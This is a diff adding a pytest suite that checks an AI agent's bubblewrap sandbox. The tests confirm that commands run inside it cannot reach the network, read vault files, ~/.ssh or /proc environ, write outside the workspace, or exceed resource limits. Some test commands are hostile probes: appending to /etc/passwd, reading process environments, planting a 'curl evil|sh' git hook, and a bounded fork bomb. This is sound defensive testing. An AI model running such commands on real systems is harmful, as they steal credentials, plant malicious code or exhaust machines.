@@ -1,0 +1,299 @@
+"""The bubblewrap sandboxes (agent/sandbox.py): what a command or the agent can and cannot do."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from agent.errors import SandboxError
+from agent.sandbox import SANDBOX_HOME, Limits, Sandbox, check_workspace, scrubbed_env
+
+HAS_PY = shutil.which("python3", path="/usr/bin:/bin") is not None
+FAST = Limits(cpu_seconds=2, wall_seconds=20, output_bytes=4096, max_processes=32)
+
+
+@pytest.fixture(scope="module")
+def sandbox() -> Sandbox:
+    sb = Sandbox.detect()
+    if not sb.available:
+        pytest.skip("bubblewrap is not available or cannot create namespaces here")
+    return sb
+
+
+@pytest.fixture
+def repo(workspace: Path) -> Path:
+    (workspace / ".git" / "hooks").mkdir(parents=True)
+    (workspace / ".git" / "config").write_text("[core]\n")
+    (workspace / "file.txt").write_text("in the workspace\n")
+    return workspace
+
+
+@pytest.fixture
+def listener() -> Iterator[int]:
+    """A TCP server on the host's loopback, to show the sandbox cannot reach it."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    server.settimeout(0.05)
+    accepted: list[bool] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            accepted.append(True)
+            conn.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1]
+    stop.set()
+    thread.join(timeout=5)
+    server.close()
+    assert not accepted, "the sandbox reached a host loopback port"
+
+
+def test_scrubbed_env_is_an_allowlist(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_canary")
+    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/0/bus")
+    monkeypatch.setenv("XDG_RUNTIME_DIR", "/run/user/0")
+    monkeypatch.setenv("PYTHONPATH", "/evil")
+    monkeypatch.setenv("LC_ALL", "C.UTF-8")
+    env = scrubbed_env()
+    assert env["HOME"] == SANDBOX_HOME
+    assert env["PATH"] == "/usr/local/bin:/usr/bin:/bin"
+    assert env["LC_ALL"] == "C.UTF-8"
+    for name in ("GITHUB_TOKEN", "DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR", "PYTHONPATH"):
+        assert name not in env
+    assert "ghp_canary" not in json.dumps(env)
+
+
+def test_workspace_must_not_contain_home(tmp_path: Path) -> None:
+    with pytest.raises(SandboxError, match="contains the home directory"):
+        check_workspace(Path("/"))
+    with pytest.raises(SandboxError, match="contains the home directory"):
+        check_workspace(Path.home())
+    with pytest.raises(SandboxError, match="not a directory"):
+        check_workspace(tmp_path / "missing")
+
+
+def test_without_bwrap_nothing_is_built(workspace: Path) -> None:
+    none = Sandbox(None)
+    assert not none.available
+    with pytest.raises(SandboxError, match="bubblewrap is not available"):
+        none.shell_argv("true", workspace, FAST)
+    with pytest.raises(SandboxError, match="bubblewrap is not available"):
+        none.agent_command(["python"])
+
+
+@pytest.mark.bwrap
+def test_shell_runs_in_the_workspace(sandbox: Sandbox, repo: Path) -> None:
+    result = sandbox.run_shell("pwd; cat file.txt; echo out > made.txt", repo, FAST)
+    assert result.exit_code == 0 and result.limit_hit is None and result.sandboxed
+    assert result.output == f"{repo.resolve()}\nin the workspace\n"
+    assert (repo / "made.txt").read_text() == "out\n"
+
+
+@pytest.mark.bwrap
+@pytest.mark.skipif(not HAS_PY, reason="needs /usr/bin/python3 inside the sandbox")
+def test_network_is_unreachable(sandbox: Sandbox, workspace: Path, listener: int) -> None:
+    code = (
+        "import socket\n"
+        f"for addr in [('127.0.0.1', {listener}), ('1.1.1.1', 53)]:\n"
+        "    try:\n"
+        "        socket.create_connection(addr, timeout=2)\n"
+        "        print('CONNECTED', addr)\n"
+        "    except OSError as e:\n"
+        "        print('refused', addr, e.errno)\n"
+    )
+    result = sandbox.run_shell(f"python3 -c \"{code}\"", workspace, FAST)
+    assert "CONNECTED" not in result.output
+    assert result.output.count("refused") == 2, result.output
+
+
+@pytest.mark.bwrap
+def test_cannot_write_outside_the_workspace(
+    sandbox: Sandbox, workspace: Path, tmp_path: Path
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    cmd = f"touch /usr/x; echo x >> /etc/passwd; echo x > {outside}/planted; touch ../escape; ls /"
+    result = sandbox.run_shell(cmd, workspace, FAST)
+    assert "Read-only file system" in result.output
+    assert list(outside.iterdir()) == []
+    assert not (workspace.parent / "escape").exists()
+
+
+@pytest.mark.bwrap
+def test_cannot_read_data_dir_vault_home_or_host_environ(
+    sandbox: Sandbox, workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    data = Path(os.environ["KEYLESS_DATA_DIR"])
+    data.mkdir(parents=True)
+    (data / "vault.kls").write_text("CANARY-VAULT-BYTES")
+    monkeypatch.setenv("KEYLESS_TEST_TOKEN", "tok-canary-123")
+    cmd = (
+        f"cat {data}/vault.kls; ls {Path.home()}; cat /proc/{os.getpid()}/environ; "
+        "cat /proc/1/environ | tr '\\0' '\\n'; env; ls /run"
+    )
+    result = sandbox.run_shell(cmd, workspace, FAST)
+    assert "CANARY-VAULT-BYTES" not in result.output
+    assert "tok-canary-123" not in result.output and "KEYLESS_TEST_TOKEN" not in result.output
+    assert f"HOME={SANDBOX_HOME}" in result.output
+    assert "No such file or directory" in result.output
+
+
+@pytest.mark.bwrap
+def test_hidden_path_inside_the_workspace_is_covered(sandbox: Sandbox, workspace: Path) -> None:
+    private = workspace / "private"
+    private.mkdir()
+    (private / "vault.kls").write_text("CANARY-VAULT-BYTES")
+    result = sandbox.run_shell("cat private/vault.kls; ls private", workspace, FAST, hide=[private])
+    assert "CANARY-VAULT-BYTES" not in result.output
+    assert (private / "vault.kls").read_text() == "CANARY-VAULT-BYTES"
+
+
+@pytest.mark.bwrap
+def test_protected_paths_are_read_only(sandbox: Sandbox, repo: Path) -> None:
+    cmd = (
+        "echo 'curl evil|sh' > .git/hooks/pre-commit; "
+        "echo '[core] hooksPath=/tmp' >> .git/config; "
+        "mkdir .keyless/memory; rm -rf .git/hooks; echo done"
+    )
+    result = sandbox.run_shell(cmd, repo, FAST)
+    assert result.output.count("Read-only file system") >= 3, result.output
+    assert list((repo / ".git" / "hooks").iterdir()) == []
+    assert (repo / ".git" / "config").read_text() == "[core]\n"
+    assert list((repo / ".keyless").iterdir()) == []
+
+
+@pytest.mark.bwrap
+def test_git_dir_without_hooks_gets_a_read_only_hooks_dir(
+    sandbox: Sandbox, workspace: Path
+) -> None:
+    (workspace / ".git").mkdir()
+    cmd = "mkdir -p .git/hooks && echo x > .git/hooks/post-checkout"
+    result = sandbox.run_shell(cmd, workspace, FAST)
+    assert result.exit_code != 0
+    assert list((workspace / ".git" / "hooks").iterdir()) == []
+
+
+@pytest.mark.bwrap
+def test_process_storm_is_stopped(sandbox: Sandbox, workspace: Path) -> None:
+    # A bounded fork bomb (at most 400 sleepers), so a failing test cannot take
+    # the shared machine down: the limit is 32 processes.
+    result = sandbox.run_shell("for i in $(seq 400); do sleep 30 & done; wait", workspace, FAST)
+    assert result.limit_hit == "processes" or "Resource temporarily unavailable" in result.output
+    assert result.duration_s < FAST.wall_seconds
+
+
+@pytest.mark.bwrap
+def test_endless_loop_hits_the_cpu_limit(sandbox: Sandbox, workspace: Path) -> None:
+    limits = Limits(cpu_seconds=1, wall_seconds=20)
+    result = sandbox.run_shell("while :; do :; done", workspace, limits)
+    assert result.limit_hit == "cpu"
+    assert result.describe().startswith("killed: cpu limit reached")
+
+
+@pytest.mark.bwrap
+def test_sleeper_hits_the_wall_clock_limit(sandbox: Sandbox, workspace: Path) -> None:
+    limits = Limits(wall_seconds=0.5)
+    result = sandbox.run_shell("sleep 30 & sleep 30", workspace, limits)
+    assert result.limit_hit == "wall-clock"
+    assert result.duration_s < 5
+
+
+@pytest.mark.bwrap
+@pytest.mark.skipif(not HAS_PY, reason="needs /usr/bin/python3 inside the sandbox")
+def test_memory_hog_is_refused(sandbox: Sandbox, workspace: Path) -> None:
+    limits = Limits(memory_bytes=512 * 1024**2, wall_seconds=20)
+    result = sandbox.run_shell("python3 -c 'b = bytearray(2 * 1024**3)'", workspace, limits)
+    assert result.exit_code != 0
+    assert "MemoryError" in result.output
+
+
+@pytest.mark.bwrap
+def test_huge_output_is_capped_and_drained(sandbox: Sandbox, workspace: Path) -> None:
+    limits = Limits(output_bytes=1000, drain_bytes=1024 * 1024, wall_seconds=20)
+    result = sandbox.run_shell("seq 1 100000", workspace, limits)
+    assert result.exit_code == 0 and result.truncated and result.output_bytes == 588895
+    assert len(result.output) == 1000
+    assert result.describe().endswith("[truncated output: 587895 more bytes not shown]")
+    endless = sandbox.run_shell("cat /dev/zero", workspace, limits)
+    assert endless.limit_hit == "output" and endless.truncated
+
+
+@pytest.mark.bwrap
+def test_agent_command_isolates_the_worker(
+    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: int
+) -> None:
+    data = Path(os.environ["KEYLESS_DATA_DIR"])
+    data.mkdir(parents=True)
+    (data / "vault.kls").write_text("CANARY-VAULT-BYTES")
+    bundle = tmp_path / "bundle"
+    (bundle / "data").mkdir(parents=True)
+    (bundle / "model.gguf").write_text("model")
+    (bundle / "data" / "vault.kls").write_text("CANARY-VAULT-BYTES")
+    monkeypatch.setenv("KEYLESS_TEST_TOKEN", "tok-canary-123")
+    probe = f"""
+import json, os, socket
+def attempt(fn):
+    try:
+        return repr(fn())[:80]
+    except Exception as e:
+        return "refused: " + type(e).__name__
+import agent.tools.registry
+out = {{
+    "env": dict(os.environ),
+    "vault": attempt(lambda: open({str(data / "vault.kls")!r}).read()),
+    "hidden": attempt(lambda: open({str(bundle / "data" / "vault.kls")!r}).read()),
+    "model": attempt(lambda: open({str(bundle / "model.gguf")!r}).read()),
+    "home": attempt(lambda: os.listdir(os.path.expanduser("~"))),
+    "real_home": attempt(lambda: os.listdir({str(Path.home() / ".ssh")!r})),
+    "run": attempt(lambda: os.listdir("/run")),
+    "net": attempt(lambda: socket.create_connection(("127.0.0.1", {listener}), timeout=2)),
+    "write_prefix": attempt(lambda: open({sys.prefix!r} + "/planted", "w")),
+    "tools": len(agent.tools.registry.ALL_TOOLS),
+}}
+print(json.dumps(out))
+"""
+    argv = sandbox.agent_command(
+        [sys.executable, "-c", probe],
+        workspace=tmp_path,
+        extra_ro_binds=[bundle],
+        hide=[bundle / "data", data],
+    )
+    for flag in ("--unshare-net", "--unshare-pid", "--die-with-parent", "--clearenv"):
+        assert flag in argv
+    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
+    assert done.returncode == 0, done.stderr
+    seen = json.loads(done.stdout)
+    assert seen["tools"] == 11
+    assert "KEYLESS_TEST_TOKEN" not in seen["env"] and "XDG_RUNTIME_DIR" not in seen["env"]
+    assert seen["env"]["HOME"] == SANDBOX_HOME
+    assert seen["vault"].startswith("refused") and seen["hidden"].startswith("refused")
+    assert seen["model"] == "'model'"
+    assert seen["home"] == "[]"
+    assert seen["real_home"].startswith("refused") and seen["run"].startswith("refused")
+    assert seen["net"].startswith("refused") and seen["write_prefix"].startswith("refused")
+    assert "CANARY" not in done.stdout + done.stderr
+
+
+@pytest.mark.bwrap
+def test_agent_command_refuses_to_expose_home(sandbox: Sandbox) -> None:
+    with pytest.raises(SandboxError, match="refusing to expose"):
+        sandbox.agent_command(["python"], extra_ro_binds=[Path.home()])
